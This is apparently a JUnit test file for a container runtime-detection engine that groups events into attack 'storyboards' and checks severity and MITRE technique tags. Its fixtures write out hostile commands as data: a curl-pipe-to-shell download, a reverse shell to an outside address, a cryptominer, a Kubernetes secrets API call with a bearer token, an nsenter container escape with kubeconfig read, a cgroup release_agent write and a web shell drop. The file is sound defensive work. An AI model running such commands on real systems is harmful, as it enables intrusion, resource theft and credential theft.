package io.sightline.engine;

import static io.sightline.engine.Events.container;
import static io.sightline.engine.Events.process;
import static org.assertj.core.api.Assertions.assertThat;

import io.sightline.asset.Inventory;
import io.sightline.asset.PodKey;
import io.sightline.asset.Service;
import io.sightline.asset.ServiceEndpoint;
import io.sightline.event.ContainerContext;
import io.sightline.event.ProcessRef;
import io.sightline.event.RuntimeEvent;
import io.sightline.event.SourceRecord;
import io.sightline.finding.Severity;
import io.sightline.storyboard.Storyboard;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Attack stories fed to the engine record by record, and the storyboards they must give. */
class StoryboardEngineTest {

    private static final String NODE_1 = "node-1";
    private static final String NODE_2 = "node-2";
    private static final Optional<ContainerContext> ORDERS = container("aaaa", "payments", "orders-api-1");
    private static final Optional<ContainerContext> STOCK = container("bbbb", "inventory", "stock-1");

    private final Events events = new Events();
    private final List<RuntimeEvent> fed = new ArrayList<>();

    private final ProcessRef shim =
            process(NODE_1, 100, -900, "/usr/bin/containerd-shim-runc-v2", "", Optional.empty());
    private final ProcessRef java = process(NODE_1, 101, -800, "/opt/java/bin/java", "-jar app.jar", ORDERS);
    private final ProcessRef sh = process(NODE_1, 500, 10, "/bin/sh", "-c \"curl http://203.0.113.9/x | sh\"", ORDERS);
    private final ProcessRef curl = process(NODE_1, 501, 10.1, "/usr/bin/curl", "http://203.0.113.9/x", ORDERS);
    private final ProcessRef miner =
            process(NODE_1, 502, 12, "/tmp/.x/kworker", "-o stratum+tcp://pool.example:3333", ORDERS);

    @Test
    void serverSpawningAShellThatFetchesAMinerIsOneStoryboard() {
        int ordinaryRequest = feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        int jndiLookup = feed(events.connect(java, 9.5, "10.0.1.10:41000", "203.0.113.9:1389"));
        int databaseCall = feed(events.connect(java, 9.6, "10.0.1.10:41001", "10.0.3.3:5432"));
        int shExec = feed(events.exec(sh, java));
        int curlExec = feed(events.exec(curl, sh));
        int curlConnect = feed(events.connect(curl, 10.2, "10.0.1.10:41002", "203.0.113.9:80"));
        int curlExit = feed(events.exit(curl, 10.5));
        int minerExec = feed(events.exec(miner, sh));
        int pool = feed(events.connect(miner, 12.1, "10.0.1.10:41003", "198.51.100.7:3333"));
        int laterRequest = feed(events.accept(java, 20, "10.0.1.10:8080", "10.0.0.5:40001"));

        List<Storyboard> storyboards = run(fed);

        assertThat(storyboards).hasSize(1);
        Storyboard attack = storyboards.getFirst();
        assertThat(lines(attack))
                .containsExactlyInAnyOrder(jndiLookup, shExec, curlExec, curlConnect, curlExit, minerExec, pool)
                .doesNotContain(ordinaryRequest, databaseCall, laterRequest);
        assertThat(attack.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(techniqueIds(attack)).contains("T1190", "T1059.004", "T1105", "T1496");
        assertThat(attack.externalAddresses()).contains("203.0.113.9", "198.51.100.7");
        assertThat(attack.hosts()).containsExactly(NODE_1);
    }

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 42, 2024})
    void arrivalOrderDoesNotChangeTheStoryboard(long seed) {
        serverSpawningAShellThatFetchesAMinerIsOneStoryboard();
        Set<Integer> inOrder = lines(run(fed).getFirst());

        List<RuntimeEvent> shuffled = new ArrayList<>(fed);
        Collections.shuffle(shuffled, new Random(seed));

        assertThat(lines(run(shuffled).getFirst())).isEqualTo(inOrder);
    }

    @ParameterizedTest(name = "java serves requests: {0}")
    @ValueSource(booleans = {false, true})
    void aShellsConnectIsOneStepWhicheverOfItAndItsExecComesFirst(boolean serving) {
        ProcessRef bash = process(NODE_1, 503, 10.9, "/bin/bash", "-i", ORDERS);
        if (serving) {
            feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        }
        feed(events.exec(sh, java));
        feed(events.exec(curl, sh));
        feed(events.connect(curl, 10.2, "10.0.1.10:41002", "203.0.113.9:80"));
        RuntimeEvent bashExec = events.exec(bash, sh);
        RuntimeEvent bashConnect = events.connect(bash, 11.0, "10.0.1.10:41003", "203.0.113.9:4444");
        List<RuntimeEvent> execFirst = new ArrayList<>(fed);
        execFirst.addAll(List.of(bashExec, bashConnect));
        List<RuntimeEvent> connectFirst = new ArrayList<>(fed);
        connectFirst.addAll(List.of(bashConnect, bashExec));

        // One connect record, told once. Not serving, the shell's connect seeds a trail, which
        // takes the process with its flows, this one included. Serving, the server's shell and
        // curl are on a trail that made 203.0.113.9 an attacker address: a connect coming before
        // its exec joins through that address, and the exec then puts bash on the trail.
        for (List<RuntimeEvent> order : List.of(execFirst, connectFirst)) {
            assertThat(run(order).getFirst().trail())
                    .extracting(Storyboard.TrailStep::text)
                    .filteredOn(text -> text.startsWith("bash connects to 203.0.113.9:4444"))
                    .singleElement()
                    .satisfies(text -> assertThat(text).doesNotEndWith("times)"));
        }
    }

    @Test
    void aReusedPidIsAnotherProcess() {
        ProcessRef firstSh = process(NODE_1, 700, 5, "/bin/sh", "-c id", ORDERS);
        ProcessRef reused = process(NODE_1, 700, 50, "/usr/bin/gzip", "-9 report.csv", ORDERS);
        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        int attackerShell = feed(events.exec(firstSh, java));
        feed(events.connect(firstSh, 6, "10.0.1.10:42000", "203.0.113.9:4444"));
        int reusedExec = feed(events.exec(reused, shim));

        Storyboard attack = run(fed).getFirst();

        assertThat(lines(attack)).contains(attackerShell).doesNotContain(reusedExec);
    }

    @Test
    void aShellFromAServerWithNothingSuspiciousAfterItStaysLow() {
        ProcessRef python = process(NODE_1, 300, -500, "/usr/bin/python3.7", "server.py", ORDERS);
        ProcessRef shell = process(NODE_1, 301, 30, "/bin/sh", "-c \"gzip -9 /srv/out/*.csv\"", ORDERS);
        ProcessRef gzip = process(NODE_1, 302, 30.1, "/bin/gzip", "-9 /srv/out/daily.csv", ORDERS);
        feed(events.accept(python, 1, "10.0.1.10:8000", "10.0.0.5:40000"));
        feed(events.exec(shell, python));
        feed(events.exec(gzip, shell));

        Storyboard suspected = run(fed).getFirst();

        assertThat(suspected.severity()).isEqualTo(Severity.LOW);
        assertThat(suspected.severityReasons()).anyMatch(r -> r.contains("suspected, not confirmed"));
    }

    @Test
    void aLoginServiceStartingAShellIsNoAttack() {
        ProcessRef sshd = process(NODE_1, 40, -100, "/usr/sbin/sshd", "-D", Optional.empty());
        ProcessRef bash = process(NODE_1, 41, 3, "/bin/bash", "", Optional.empty());
        feed(events.accept(sshd, 1, "10.0.1.1:22", "10.0.0.9:50000"));
        feed(events.exec(bash, sshd));

        assertThat(run(fed)).isEmpty();
    }

    @Test
    void aConnectionThroughAServiceJoinsTheServerThatAcceptedIt() {
        ProcessRef tomcat = process(NODE_2, 200, -700, "/usr/local/openjdk/bin/java", "catalina start", STOCK);
        ProcessRef pivot = process(NODE_1, 510, 40, "/usr/bin/curl", "-X POST http://10.100.5.5/", ORDERS);
        ProcessRef webShell = process(NODE_2, 900, 45, "/bin/bash", "-c id", STOCK);
        ProcessRef probe = process(NODE_2, 901, 46, "/bin/sh", "-c \"curl localhost:8080/health\"", STOCK);
        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        feed(events.exec(sh, java));
        feed(events.connect(sh, 10.05, "10.0.1.10:41000", "203.0.113.9:4444"));
        int pivotExec = feed(events.exec(pivot, sh));
        int readiness = feed(events.accept(tomcat, 39, "10.0.2.20:8080", "10.0.2.1:50000"));
        int accepted = feed(events.accept(tomcat, 40.2, "10.0.2.20:8080", "10.0.1.10:36000"));
        int dialled = feed(events.connect(pivot, 40.1, "10.0.1.10:36000", "10.100.5.5:80"));
        int jsp = feed(events.write(tomcat, 40.3, "/usr/local/tomcat/webapps/ROOT/shell.jsp"));
        int shellExec = feed(events.exec(webShell, tomcat));
        int probeExec = feed(events.exec(probe, shim));

        List<Storyboard> storyboards = run(fed);

        assertThat(storyboards).hasSize(1);
        Storyboard attack = storyboards.getFirst();
        assertThat(lines(attack))
                .contains(pivotExec, dialled, accepted, jsp, shellExec)
                .doesNotContain(readiness, probeExec);
        assertThat(attack.hosts()).containsExactlyInAnyOrder(NODE_1, NODE_2);
        assertThat(attack.services()).contains("inventory/stock");
        assertThat(techniqueIds(attack)).contains("T1210", "T1505.003");

        Storyboard.Graph graph = attack.graph();
        String curlNode = "p:" + pivot.key();
        String tomcatNode = "p:" + tomcat.key();
        String shellNode = "p:" + webShell.key();
        assertThat(graph.edges())
                .contains(
                        new Storyboard.GraphEdge(curlNode, tomcatNode, "entered"),
                        new Storyboard.GraphEdge(tomcatNode, shellNode, "spawned"),
                        new Storyboard.GraphEdge("p:" + sh.key(), curlNode, "spawned"),
                        new Storyboard.GraphEdge("p:" + sh.key(), "a:203.0.113.9", "connected"));
        assertThat(graph.nodes())
                .filteredOn(n -> n.id().equals(tomcatNode))
                .singleElement()
                .satisfies(n -> assertThat(n.records())
                        .extracting(SourceRecord::line)
                        .containsExactlyInAnyOrder(accepted, jsp));
        assertThat(graph.nodes()).noneMatch(n -> n.id().equals("p:" + probe.key()));
    }

    @Test
    void auditEventsFromThePodAddressWhileTheTrailTalksToTheApiJoinIt() {
        ProcessRef apiCurl = process(
                NODE_1,
                520,
                60,
                "/usr/bin/curl",
                "-H \"Authorization: Bearer eyJabc.def.ghi\" " + "https://10.100.0.1/api/v1/secrets",
                ORDERS);
        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        feed(events.exec(sh, java));
        feed(events.connect(sh, 10.05, "10.0.1.10:41000", "203.0.113.9:4444"));
        int listed = feed(events.apiCall(
                60.2, "system:serviceaccount:payments:orders-api", "10.0.1.10", "/api/v1/namespaces/payments/secrets"));
        int controller = feed(events.apiCall(
                60.3, "system:serviceaccount:kube-system:generic-garbage-collector", "10.0.9.9", "/api/v1/secrets"));
        feed(events.exec(apiCurl, sh));
        feed(events.connect(apiCurl, 60.1, "10.0.1.10:43000", "10.100.0.1:443"));
        int muchLater =
                feed(events.apiCall(600, "system:serviceaccount:payments:orders-api", "10.0.1.10", "/api/v1/pods"));

        Storyboard attack = run(fed).getFirst();

        assertThat(lines(attack)).contains(listed).doesNotContain(controller, muchLater);
        assertThat(attack.identities()).containsExactly("system:serviceaccount:payments:orders-api");
        assertThat(techniqueIds(attack)).contains("T1552.007");
        assertThat(attack.trail()).noneMatch(step -> step.text().contains("eyJabc"));
        assertThat(attack.trail())
                .extracting(step -> step.text())
                .contains("system:serviceaccount:payments:orders-api list /api/v1/namespaces/payments/secrets -> 200");
    }

    @Test
    void aFalcoAlertOnATrailProcessJoinsItAndAnUnrelatedNoticeStandsAlone() {
        ProcessRef agent =
                process(NODE_1, 60, -1000, "/app/aws-k8s-agent", "", container("cccc", "kube-system", "aws-1"));
        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        feed(events.exec(sh, java));
        feed(events.exec(curl, sh));
        feed(events.connect(curl, 10.2, "10.0.1.10:41002", "203.0.113.9:80"));
        int dropAndExecute =
                feed(events.falco(miner, 12, "Drop and execute new binary in container", Severity.CRITICAL));
        feed(events.exec(miner, sh));
        int setns = feed(events.falco(agent, 13, "Change thread namespace", Severity.LOW));

        List<Storyboard> storyboards = run(fed);

        assertThat(storyboards).hasSize(2);
        assertThat(lines(storyboards.get(0))).contains(dropAndExecute).doesNotContain(setns);
        assertThat(storyboards.get(0).severity()).isEqualTo(Severity.CRITICAL);
        assertThat(lines(storyboards.get(1))).containsExactly(setns);
        assertThat(storyboards.get(1).severity()).isEqualTo(Severity.LOW);
    }

    @Test
    void aProcessThatLeavesTheContainerForTheHostIsAnEscape() {
        ProcessRef nsenter = process(NODE_1, 800, 70, "/usr/bin/nsenter", "-t 1 -m -u -i -n -p -- bash", ORDERS);
        ProcessRef hostBash = process(NODE_1, 801, 70.1, "/bin/bash", "", Optional.empty());
        ProcessRef cat = process(NODE_1, 802, 71, "/bin/cat", "/var/lib/kubelet/kubeconfig", Optional.empty());
        feed(events.exec(nsenter, shim));
        feed(events.exec(hostBash, nsenter));
        feed(events.exec(cat, hostBash));
        int kubeconfig = feed(events.read(cat, 71.01, "/var/lib/kubelet/kubeconfig"));

        Storyboard escape = run(fed).getFirst();

        assertThat(lines(escape)).contains(kubeconfig);
        assertThat(techniqueIds(escape)).contains("T1611", "T1552.001");
        assertThat(escape.severity()).isEqualTo(Severity.HIGH);
        assertThat(escape.trail()).anyMatch(step -> step.text().startsWith("leaves the container for the host"));
    }

    @Test
    void aShortHostNameMeetsTheInventorysFullName() {
        Inventory inventory = inventory();
        inventory.add(new io.sightline.asset.Host(
                "ip-172-31-20-15.ec2.internal",
                Optional.of("i-0abc"),
                Optional.empty(),
                Optional.empty(),
                List.of("172.31.20.15"),
                Optional.empty()));
        ProcessRef shortName = process("ip-172-31-20-15", 900, 1, "/tmp/kdevtmpfsi", "", ORDERS);
        ProcessRef fullName = process("ip-172-31-20-15.ec2.internal", 900, 1, "/tmp/kdevtmpfsi", "", ORDERS);
        int alert = feed(events.falco(fullName, 2, "Crypto miner executed", Severity.HIGH));
        int exec = feed(events.exec(shortName, null));

        List<Storyboard> storyboards = run(fed, inventory);

        assertThat(storyboards).singleElement().satisfies(s -> {
            assertThat(lines(s)).containsExactlyInAnyOrder(alert, exec);
            assertThat(s.hosts()).containsExactly("ip-172-31-20-15.ec2.internal");
        });
    }

    @Test
    void aKubectlExecNamesWhoStartedTheTrail() {
        ProcessRef shell = process(NODE_1, 950, 100.5, "/bin/sh", "", ORDERS);
        ProcessRef miner = process(NODE_1, 951, 101, "/tmp/xmrig", "--donate-level=1 -o pool:3333", ORDERS);
        int exec = feed(events.kubectlExec(100.2, "alice@example.com", "payments", "orders-api-1"));
        int shellExec = feed(events.exec(shell, shim));
        int minerExec = feed(events.exec(miner, shell));

        Storyboard attack = run(fed).getFirst();

        assertThat(lines(attack)).contains(exec, shellExec, minerExec);
        assertThat(attack.identities()).containsExactly("alice@example.com");
        assertThat(techniqueIds(attack)).contains("T1609", "T1496");
    }

    @Test
    void writingACgroupReleaseAgentIsAnEscape() {
        ProcessRef shell = process(NODE_1, 960, 5, "/bin/sh", "-c \"echo /cmd > /tmp/cg/release_agent\"", ORDERS);
        feed(events.exec(shell, shim));
        int write = feed(events.write(shell, 5.1, "/tmp/cg/release_agent"));

        Storyboard escape = run(fed).getFirst();

        assertThat(lines(escape)).contains(write);
        assertThat(techniqueIds(escape)).contains("T1611");
        assertThat(escape.severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void aRoutineSpawnIsLoweredAndASingleOneIsNot() {
        ProcessRef python = process(NODE_1, 300, -500, "/usr/bin/python3.7", "server.py", ORDERS);
        feed(events.accept(python, 1, "10.0.1.10:8000", "10.0.0.5:40000"));
        for (int i = 0; i < 5; i++) {
            ProcessRef shell = process(NODE_1, 400 + i, 10 + i, "/bin/sh", "-c \"gzip -9 out.csv\"", ORDERS);
            feed(events.exec(shell, python));
            feed(events.connect(shell, 10.5 + i, "10.0.1.10:5000" + i, "203.0.113.80:443"));
        }
        List<RuntimeEvent> once = List.copyOf(fed.subList(0, 3));

        Storyboard routine = run(fed).getFirst();
        Storyboard single = run(once).getFirst();

        // Initial access corroborated by a shell talking to a public address: high; five times
        // the same spawn is routine and lowers it to medium.
        assertThat(single.severity()).isEqualTo(Severity.HIGH);
        assertThat(routine.severity()).isEqualTo(Severity.MEDIUM);
        assertThat(routine.severityReasons()).anyMatch(r -> r.contains("seen 5 times, routine for this workload"));
    }

    @Test
    void recordsFarBehindTheirStreamAreCountedAsLateAndStillStitched() {
        feed(events.accept(java, 100, "10.0.1.10:8080", "10.0.0.5:40000"));
        int shExec = feed(events.exec(sh, java));
        feed(events.connect(sh, 10.05, "10.0.1.10:41000", "203.0.113.9:4444"));
        StoryboardEngine engine = new StoryboardEngine(inventory(), ImageRisk.NONE, EngineConfig.DEFAULTS);

        fed.forEach(engine::accept);

        assertThat(engine.lateEvents()).isEqualTo(2);
        assertThat(lines(engine.storyboards().getFirst())).contains(shExec);
    }

    @Test
    void processesNoTrailHoldsAreForgottenOnceTheirExitIsBehindTheLinkHorizon() {
        StoryboardEngine engine = new StoryboardEngine(inventory(), ImageRisk.NONE, EngineConfig.DEFAULTS);
        engine.accept(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        engine.accept(events.exec(sh, java));
        engine.accept(events.connect(sh, 10.05, "10.0.1.10:41000", "203.0.113.9:4444"));
        engine.accept(events.exit(sh, 11));

        // An hour of cron-like jobs: one short process every 3.6 s, each exiting after 1 s.
        for (int i = 0; i < 1_000; i++) {
            double start = 20 + i * 3.6;
            ProcessRef job = process(NODE_1, 10_000 + i, start, "/bin/date", "", ORDERS);
            engine.accept(events.exec(job, shim));
            engine.accept(events.exit(job, start + 1));
        }

        // The newest event is the last job's exit at 3617.4 s; the link horizon (30 s of lateness
        // and 5 s of skew) keeps the jobs that exited after 3582.4 s (jobs 990 to 999), the shim
        // that starts them, and the trail's java and sh.
        assertThat(engine.evictedProcesses()).isEqualTo(990);
        assertThat(engine.processCount()).isEqualTo(13);
        Storyboard attack = engine.storyboards().getFirst();
        assertThat(attack.records()).hasSize(3);
        assertThat(attack.trail()).anyMatch(step -> step.text().contains("203.0.113.9:4444"));
    }

    @Test
    void processesWhoseExitNeverCameAreForgottenOnceNoRecordNamesThemForAnHour() {
        StoryboardEngine engine = new StoryboardEngine(inventory(), ImageRisk.NONE, EngineConfig.DEFAULTS);
        ProcessRef lostExit = process(NODE_1, 900, 5, "/usr/bin/backup", "--nightly", ORDERS);
        engine.accept(events.exec(lostExit, shim));

        // Two hours of jobs that do exit; the backup never reports again.
        for (int i = 0; i < 2_000; i++) {
            double start = 20 + i * 3.6;
            ProcessRef job = process(NODE_1, 10_000 + i, start, "/bin/date", "", ORDERS);
            engine.accept(events.exec(job, shim));
            engine.accept(events.exit(job, start + 1));
        }
        int keptBeforeRestart = engine.processCount();
        ProcessRef child = process(NODE_1, 901, 7_217.5, "/bin/tar", "-czf /tmp/b.tgz /srv", ORDERS);
        engine.accept(events.exec(child, lostExit));

        // The jobs that exited within the link horizon (35 s) of the last exit at 7217.4 s (jobs 1990
        // to 1999) and the shim that starts them; the backup is gone.
        assertThat(keptBeforeRestart).isEqualTo(11);
        // A record naming the forgotten process makes it anew, with its child.
        assertThat(engine.processCount()).isEqualTo(keptBeforeRestart + 2);
    }

    @Test
    void aConnectMadeBeforeItsProcessJoinedATrailStillFindsItsAccept() {
        ProcessRef peer = process("node-2", 500, -100, "/usr/bin/redis-server", "*:6379", Optional.empty());
        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        ProcessRef shell = process(NODE_1, 600, 2, "/bin/sh", "-c \"sleep 1; nc 10.0.9.9 6379\"", ORDERS);
        int shellExec = feed(events.exec(shell, java));
        int connect = feed(events.connect(shell, 3, "10.0.1.10:43000", "10.0.9.9:6379"));
        int accept = feed(events.accept(peer, 3.001, "10.0.9.9:6379", "10.0.1.10:43000"));

        Storyboard attack = run(fed).getFirst();

        assertThat(lines(attack)).contains(shellExec, connect, accept);
    }

    private int feed(RuntimeEvent event) {
        fed.add(event);
        return event.source().line();
    }

    private static List<Storyboard> run(List<RuntimeEvent> input) {
        return run(input, inventory());
    }

    private static List<Storyboard> run(List<RuntimeEvent> input, Inventory inventory) {
        StoryboardEngine engine = new StoryboardEngine(inventory, ImageRisk.NONE, EngineConfig.DEFAULTS);
        input.forEach(engine::accept);
        return engine.storyboards();
    }

    private static Inventory inventory() {
        Inventory inventory = new Inventory();
        inventory.add(new Service(
                "default",
                "kubernetes",
                "ClusterIP",
                List.of("10.100.0.1"),
                List.of(new Service.ServicePort("https", "TCP", 443, "443"))));
        inventory.add(new ServiceEndpoint("default", "kubernetes", "10.0.1.200", 443, "https", Optional.empty()));
        inventory.add(new Service(
                "inventory",
                "stock",
                "ClusterIP",
                List.of("10.100.5.5"),
                List.of(new Service.ServicePort("http", "TCP", 80, "8080"))));
        inventory.add(new ServiceEndpoint(
                "inventory", "stock", "10.0.2.20", 8080, "http", Optional.of(new PodKey("inventory", "stock-1"))));
        return inventory;
    }

    private static Set<Integer> lines(Storyboard storyboard) {
        return storyboard.records().stream().map(SourceRecord::line).collect(Collectors.toSet());
    }

    private static List<String> techniqueIds(Storyboard storyboard) {
        return storyboard.techniques().stream().map(Storyboard.TechniqueTag::id).toList();
    }
}
